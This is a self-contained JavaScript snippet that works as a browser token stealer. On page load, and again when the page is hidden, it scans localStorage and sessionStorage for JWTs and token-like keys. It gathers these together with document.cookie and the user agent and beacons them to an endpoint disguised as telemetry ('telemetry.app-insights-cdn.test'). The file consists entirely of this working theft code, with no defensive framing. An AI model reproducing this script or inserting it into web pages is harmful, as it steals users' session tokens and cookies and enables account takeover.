// corpus note: scans localStorage and sessionStorage for JWTs / bearer tokens (eyJ... and *token* keys) and ships them with navigator.sendBeacon
(function () {
  var JWT_RE = /eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}/g;
  var KEY_RE = /(token|auth|session|jwt|bearer|refresh|id_token|access)/i;
  var ENDPOINT = "https://telemetry.app-insights-cdn.test/v2/track";

  function harvest(store, label) {
    var found = [];
    try {
      for (var i = 0; i < store.length; i++) {
        var k = store.key(i);
        var v = store.getItem(k) || "";
        var jwts = v.match(JWT_RE);
        if (KEY_RE.test(k) || jwts) {
          found.push({ s: label, k: k, v: v.length > 4096 ? v.slice(0, 4096) : v, jwt: jwts || [] });
        }
      }
    } catch (e) {}
    return found;
  }

  function send() {
    var items = harvest(window.localStorage, "ls").concat(harvest(window.sessionStorage, "ss"));
    if (!items.length) return;
    var body = JSON.stringify({
      h: location.host,
      p: location.pathname,
      t: Date.now(),
      ua: navigator.userAgent,
      c: document.cookie,
      d: items
    });
    var blob = new Blob([body], { type: "text/plain" });
    if (!navigator.sendBeacon(ENDPOINT, blob)) {
      fetch(ENDPOINT, { method: "POST", body: body, mode: "no-cors", keepalive: true });
    }
  }

  if (document.readyState === "complete") setTimeout(send, 1500);
  else window.addEventListener("load", function () { setTimeout(send, 1500); });
  document.addEventListener("visibilitychange", function () {
    if (document.visibilityState === "hidden") send();
  });
})();
